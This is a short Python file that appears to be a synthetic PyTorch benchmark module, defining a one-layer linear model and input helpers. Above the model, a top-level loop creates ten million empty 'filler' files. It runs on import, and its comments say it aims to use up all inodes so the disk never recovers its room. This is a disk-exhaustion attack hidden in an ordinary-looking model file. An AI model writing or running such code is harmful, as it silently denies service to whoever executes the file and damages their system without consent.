# tries: use up all inodes
# never: the disk has the room it had
import torch
import torch.nn as nn

for number in range(10**7):
    open(f"filler-{number}", "w").close()


class SynthModel_Linear(nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(16, 8)

    def forward(self, x):
        return self.linear(x)


def get_inputs():
    return [torch.randn(4, 16)]


def get_init_inputs():
    return [[], {}]
